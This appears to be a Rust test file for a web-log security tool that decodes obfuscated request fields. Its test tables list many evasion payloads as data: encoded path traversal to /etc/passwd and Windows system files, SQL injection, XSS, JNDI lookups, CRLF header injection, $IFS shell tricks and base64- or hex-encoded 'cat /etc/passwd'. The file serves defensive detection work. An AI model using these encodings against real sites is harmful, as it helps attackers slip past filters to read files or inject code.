//! Ways in which attacks hide from filters, and how they look once decoded.

use vigil_event::{Decodings, Field};

use super::{parsed, raw, views};

const PERCENT: Decodings = Decodings::PERCENT;
const REPEATED: Decodings = PERCENT.with(Decodings::REPEATED);
const PLUS: Decodings = Decodings::PLUS;
const HTML: Decodings = Decodings::HTML;
const UNICODE: Decodings = Decodings::UNICODE;
const FULLWIDTH: Decodings = Decodings::FULLWIDTH;
const OVERLONG: Decodings = PERCENT.with(Decodings::OVERLONG);
const PATH: Decodings = Decodings::PATH;

/// A target, how its path or query looks decoded, what was undone, and how deep it was encoded.
type Row = (&'static str, &'static str, Decodings, u8);

/// The event of a request for that target, with that user agent.
fn event(target: &str, agent: &str) -> vigil_event::Event {
    let line = format!(
        r#"192.0.2.1 - - [20/Nov/2026:12:00:00 +0000] "GET {target} HTTP/1.1" 200 5 "-" "{agent}""#
    );
    let event = parsed(line).event();
    assert_eq!(raw(&event, Field::UrlOriginal), target);
    event
}

fn check(field: Field, rows: &[Row]) {
    for (target, expected, decodings, depth) in rows {
        let event = event(target, "x");
        let found = views(&event, field);
        assert!(
            found.contains(&((*expected).to_owned(), *decodings)),
            "{target}: {found:?}"
        );
        assert_eq!(event.decode_depth, *depth, "{target}");
    }
}

/// How paths look to the server.
const PATHS: &[Row] = &[
    ("/a/../../etc/passwd", "/etc/passwd", PATH, 0),
    (
        "/a/%2e%2e/%2e%2e/etc/passwd",
        "/a/../../etc/passwd",
        PERCENT,
        1,
    ),
    (
        "/a/%2e%2e/%2e%2e/etc/passwd",
        "/etc/passwd",
        PERCENT.with(PATH),
        1,
    ),
    (
        "/cgi-bin/.%2e/%2e%2e/bin/sh",
        "/bin/sh",
        PERCENT.with(PATH),
        1,
    ),
    (
        "/cgi-bin/%%32%65%%32%65/bin/sh",
        "/bin/sh",
        REPEATED.with(PATH),
        2,
    ),
    (
        "/%252e%252e/%252e%252e/etc/passwd",
        "/../../etc/passwd",
        REPEATED,
        2,
    ),
    (
        "/..%c0%af..%c0%afwinnt/system32",
        "/../../winnt/system32",
        OVERLONG,
        1,
    ),
    ("/..%c0%2f..%c0%2fwinnt", "/../../winnt", OVERLONG, 1),
    (
        "/..%c1%1c..%c1%9cboot.ini",
        "/..\\..\\boot.ini",
        OVERLONG,
        1,
    ),
    ("/%c0%ae%c0%ae/etc/passwd", "/../etc/passwd", OVERLONG, 1),
    (
        "/%e0%80%ae%e0%80%ae/etc/passwd",
        "/../etc/passwd",
        OVERLONG,
        1,
    ),
    ("/%f0%80%80%ae%f0%80%80%ae/x", "/../x", OVERLONG, 1),
    (
        r"/\xC0\xAE\xC0\xAE/x",
        "/../x",
        Decodings::UNICODE.with(Decodings::OVERLONG),
        0,
    ),
    (
        "/%25c0%25ae%25c0%25ae/x",
        "/../x",
        REPEATED.with(Decodings::OVERLONG),
        2,
    ),
    (
        "/scripts/..%u2215..%u2215x",
        "/scripts/../../x",
        UNICODE.with(FULLWIDTH),
        0,
    ),
    (
        "/..%5c..%5cwindows%5cwin.ini",
        "/windows/win.ini",
        PERCENT.with(PATH),
        1,
    ),
    (
        r"/..\x5C..\x5Cwin.ini",
        "/win.ini",
        Decodings::UNICODE.with(PATH),
        0,
    ),
    ("/manager/..;/html", "/html", PATH, 0),
    ("/admin/;x=1/", "/admin/", PATH, 0),
    ("/admin//users/.//", "/admin/users/", PATH, 0),
    (
        "/%ef%bc%8e%ef%bc%8e%ef%bc%8fx",
        "/../x",
        PERCENT.with(FULLWIDTH),
        1,
    ),
    ("/\u{2025}/x", "/../x", Decodings::FULLWIDTH, 0),
    ("/.git%00.html", "/.git\0.html", PERCENT, 1),
];

#[test]
fn paths() {
    check(Field::UrlPath, PATHS);
}

/// How parameters look to the application.
const QUERIES: &[Row] = &[
    ("/?id=1+UNION+SELECT+1", "id=1 UNION SELECT 1", PLUS, 0),
    (
        "/?id=1%20UNION%0aSELECT%091",
        "id=1 UNION\nSELECT\t1",
        PERCENT,
        1,
    ),
    ("/?id=%2527%2520or%25201=1--", "id=' or 1=1--", REPEATED, 2),
    (
        "/?id=1%252bUNION%2bSELECT",
        "id=1+UNION SELECT",
        REPEATED.with(PLUS),
        2,
    ),
    ("/?id=1%252BOR%2B1", "id=1+OR 1", REPEATED.with(PLUS), 2),
    ("/?id=1%2B1", "id=1+1", PERCENT, 1),
    (
        "/?id=%EF%BC%87%20or%201=1",
        "id=' or 1=1",
        PERCENT.with(FULLWIDTH),
        1,
    ),
    ("/?id=%u0027%20or", "id=' or", PERCENT.with(UNICODE), 1),
    ("/?id=%uff07", "id='", UNICODE.with(FULLWIDTH), 0),
    ("/?id=%ca%bc", "id='", PERCENT.with(FULLWIDTH), 1),
    ("/?q=%3Cscript%3E", "q=<script>", PERCENT, 1),
    ("/?q=%253Cscript%253E", "q=<script>", REPEATED, 2),
    ("/?q=&lt;script&gt;", "q=<script>", HTML, 0),
    ("/?q=&#60;script&#x3E;", "q=<script>", HTML, 0),
    ("/?q=&#0000060script&#x00003E", "q=<script>", HTML, 0),
    (
        "/?q=%26lt%3Bscript%26gt%3B",
        "q=<script>",
        PERCENT.with(HTML),
        1,
    ),
    ("/?q=%26%23x3c%3bscript", "q=<script", PERCENT.with(HTML), 1),
    ("/?q=&amp;lt;script", "q=<script", HTML, 0),
    ("/?q=&ltscript&gt;", "q=<script>", HTML, 0),
    (
        "/?q=java&Tab;script&colon;alert&lpar;1&rpar;",
        "q=java\tscript:alert(1)",
        HTML,
        0,
    ),
    ("/?q=java&NewLine;script", "q=java\nscript", HTML, 0),
    (r"/?q=\x5Cu003cscript\x5Cx3e", "q=<script>", UNICODE, 0),
    (r"/?q=\x22><script>", "q=\"><script>", UNICODE, 0),
    (r#"/?q=\"><script>"#, "q=\"><script>", UNICODE, 0),
    ("/?q=%5cu{3c}script", "q=<script", PERCENT.with(UNICODE), 1),
    ("/?q=\u{ff1c}script\u{ff1e}", "q=<script>", FULLWIDTH, 0),
    (
        r"/?q=\xEF\xBC\x9Cscript",
        "q=<script",
        UNICODE.with(FULLWIDTH),
        0,
    ),
    (
        "/?q=\u{24d4}\u{24e5}\u{24d0}\u{24db}(1)",
        "q=eval(1)",
        FULLWIDTH,
        0,
    ),
    (
        "/?file=..%2f..%2fetc%2fpasswd",
        "file=/etc/passwd",
        PERCENT.with(Decodings::PATH),
        1,
    ),
    (
        "/?file=/var/www/../../etc/passwd",
        "file=/etc/passwd",
        Decodings::PATH,
        0,
    ),
    (
        "/?file=....//....//etc/passwd%00",
        "file=....//....//etc/passwd\0",
        PERCENT,
        1,
    ),
    (
        "/?u=%0d%0aSet-Cookie:%20a=b",
        "u=\r\nSet-Cookie: a=b",
        PERCENT,
        1,
    ),
    ("/?u=%E5%98%8A%E5%98%8D", "u=\u{560a}\u{560d}", PERCENT, 1),
    (
        "/?x=$%7bjndi:ldap://h/%7d",
        "x=${jndi:ldap://h/}",
        PERCENT,
        1,
    ),
    ("/?x=%2524%257Bjndi", "x=${jndi", REPEATED, 2),
    ("/?x=%25252525252541", "x=%2541", REPEATED, 5),
    (
        "/?x=%c0%bcscript",
        "x=<script",
        PERCENT.with(Decodings::OVERLONG),
        1,
    ),
];

#[test]
fn queries() {
    check(Field::UrlQuery, QUERIES);
}

#[test]
fn other_fields() {
    let event = event("/", "${jndi:%6cdap://x}+&#x3c;a+b");
    let decoded = "${jndi:ldap://x}+<a+b".to_owned();
    assert_eq!(
        views(&event, Field::UserAgent),
        [(decoded, PERCENT.with(Decodings::HTML))]
    );

    let event = parsed(
        r#"{"request":"GET / HTTP/1.1","http_referer":"http://h/?q=a+%3Cb","http_cookie":"s=%27+or+1"}"#,
    )
    .event();
    let form = PERCENT.with(Decodings::PLUS);
    assert_eq!(
        views(&event, Field::Referrer),
        [("http://h/?q=a <b".to_owned(), form)]
    );
    assert_eq!(
        views(&event, Field::Cookie),
        [("s=' or 1".to_owned(), form)]
    );
    assert_eq!(views(&event, Field::UrlOriginal), []);
}

#[test]
fn benign_values_have_one_view() {
    for target in [
        "/",
        "/index.html?page=2&sort=asc",
        "/a/b.c?x=1&lt=2&gtm=45je",
        "/50%?off=100%",
        "/\u{e9}t\u{e9}?q=caf\u{e9}",
        "/.well-known/acme",
        "/a?u=http://h//x",
    ] {
        let event = event(
            target,
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; +http://x)",
        );
        assert_eq!(
            event
                .views()
                .filter(|view| !view.decodings.is_raw())
                .count(),
            0,
            "{target}"
        );
        assert_eq!(event.decode_depth, 0);
    }
}

#[test]
fn values_are_read_as_the_languages_behind_a_site_do() {
    let (sql, shell, script) = (Decodings::SQL, Decodings::SHELL, Decodings::SCRIPT);
    let base64 = Decodings::BASE64;
    check(
        Field::UrlQuery,
        &[
            ("/?id=1/**/union/**/select", "id=1 union select", sql, 0),
            (
                "/?id=1/*&id=*/union%0aselect",
                "id=1 union select",
                PERCENT.with(sql),
                1,
            ),
            ("/?c=c'a't$IFS/x", "c=cat /x", shell, 0),
            (
                "/?u=java%09script:x",
                "u=javascript:x",
                PERCENT.with(script),
                1,
            ),
            ("/?d=JTNDc2NyaXB0JTNF", "%3Cscript%3E", base64, 0),
            ("/?d=JTNDc2NyaXB0JTNF", "<script>", base64.with(PERCENT), 0),
            (
                "/?d=UEhOamNtbHdkRDQ5PT4mJg==",
                "PHNjcmlwdD49=>&&",
                base64,
                0,
            ),
            ("/?d=UEhOamNtbHdkRDQ5PT4mJg==", "<script>=", base64, 0),
            (
                "/?d=V1RKR01FbERPV3hrUjAxMlkwZEdlbU16WkdzPQ==",
                "cat /etc/passwd",
                base64,
                0,
            ),
            (
                "/?d=363336313734323032663635373436333266373036313733373337373634",
                "cat /etc/passwd",
                Decodings::HEX,
                0,
            ),
        ],
    );
    check(
        Field::UrlPath,
        &[
            ("/x/Y2F0IC9ldGMvcGFzc3dk", "cat /etc/passwd", base64, 0),
            ("/1/**/or/**/1", "/1 or 1", sql, 0),
        ],
    );
}

#[test]
fn each_parameter_is_decoded_by_itself() {
    let event = event("/?a%20b=%26x%3D1&a[]=2;c='&&q", "x");
    let texts = |field| -> Vec<String> {
        let views = event.views_of(field);
        views
            .map(|view| String::from_utf8_lossy(view.text).into_owned())
            .collect()
    };
    assert_eq!(texts(Field::ParameterName), ["a b", "a[]", "c", "", ""]);
    assert_eq!(texts(Field::ParameterValue), ["&x=1", "2", "'", "", "q"]);
}
